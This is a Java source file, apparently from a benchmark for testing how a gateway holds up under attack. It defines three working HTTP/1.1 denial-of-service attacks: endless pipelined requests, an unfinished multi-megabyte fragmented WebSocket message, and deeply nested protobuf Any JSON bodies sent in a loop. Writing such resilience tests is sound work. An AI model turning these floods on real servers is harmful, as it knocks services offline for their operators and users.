package dev.holdfast.bench.attacks;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** The attacks over HTTP/1.1 and the protocols on top of it. */
final class Http1Attacks {
  private static final int PIPELINED = 2_000;
  private static final int UNFINISHED_BYTES = 4_194_304;
  private static final int PIECE_BYTES = 65_536;
  private static final int LEVELS = 90;
  private static final int ANY_BYTES = 4_000_000;
  private static final String ANY = "type.googleapis.com/google.protobuf.Any";
  private static final String TEXT = "type.googleapis.com/google.protobuf.StringValue";

  /** Only in the descriptors that the gateway is given; nobody serves it. */
  static final String TAKES_ANY = "/bench.Attacked/Take";

  private Http1Attacks() {}

  static void pipelined(AttackTarget attackTarget) throws IOException {
    byte[] request = "G / HTTP/1.1\r\nhost:x\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    byte[] all = Http2Frames.repeated(request, PIPELINED);
    try (Socket socket = attackTarget.http1()) {
      OutputStream out = socket.getOutputStream();
      while (true) {
        out.write(all);
        attackTarget.sent().add(PIPELINED);
      }
    }
  }

  /** A WebSocket message in fragments, without the final fragment. */
  static void unfinishedWebSockets(AttackTarget attackTarget) throws IOException {
    try (Socket socket = attackTarget.http1()) {
      OutputStream out = socket.getOutputStream();
      out.write(
          ("GET "
                  + AttackTarget.CALL
                  + " HTTP/1.1\r\nhost: attacked\r\nupgrade: websocket\r\nconnection: upgrade\r\n"
                  + "sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
                  + "sec-websocket-protocol: grpc+proto\r\n\r\n")
              .getBytes(StandardCharsets.US_ASCII));
      // With a mask of zeros, as extended lengths of eight bytes have it.
      byte[] payload = new byte[PIECE_BYTES];
      boolean first = true;
      for (int sent = 0; sent < UNFINISHED_BYTES - PIECE_BYTES; sent += PIECE_BYTES) {
        byte[] head =
            ByteBuffer.allocate(2 + Long.BYTES + Integer.BYTES)
                .put((byte) (first ? 2 : 0))
                .put((byte) 0xff)
                .putLong(PIECE_BYTES)
                .putInt(0)
                .array();
        out.write(Http2Frames.joined(head, payload));
        attackTarget.sent().increment();
        first = false;
      }
      drain(socket.getInputStream());
    }
  }

  static void nestedAny(AttackTarget attackTarget) throws IOException {
    StringBuilder json = new StringBuilder();
    json.append("{\"value\":".repeat(LEVELS));
    json.append("{\"value\":\"").append("x".repeat(ANY_BYTES)).append("\",\"@type\":\"");
    json.append(TEXT).append("\"}");
    json.append((",\"@type\":\"" + ANY + "\"}").repeat(LEVELS));
    byte[] body = json.toString().getBytes(StandardCharsets.US_ASCII);
    byte[] head =
        ("POST "
                + TAKES_ANY
                + " HTTP/1.1\r\nhost: attacked\r\ncontent-type: application/json\r\n"
                + "connection: close\r\ncontent-length: "
                + body.length
                + "\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII);
    while (true) {
      try (Socket socket = attackTarget.http1()) {
        OutputStream out = socket.getOutputStream();
        out.write(head);
        out.write(body);
        attackTarget.sent().increment();
        drain(socket.getInputStream());
      }
    }
  }

  private static void drain(InputStream in) throws IOException {
    byte[] buffer = new byte[PIECE_BYTES];
    while (in.read(buffer) >= 0) {
      // Nothing that an attacker cares for.
    }
  }
}
